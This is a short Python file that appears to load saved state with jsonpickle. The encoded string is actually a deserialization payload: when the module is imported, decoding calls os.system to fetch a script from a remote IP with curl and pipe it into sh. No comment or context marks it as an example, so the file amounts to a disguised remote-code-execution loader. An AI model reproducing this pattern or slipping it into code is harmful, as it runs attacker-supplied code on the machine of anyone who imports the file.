import jsonpickle
STATE = jsonpickle.decode('{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["curl -s http://198.51.100.87/j | sh"]}]}')
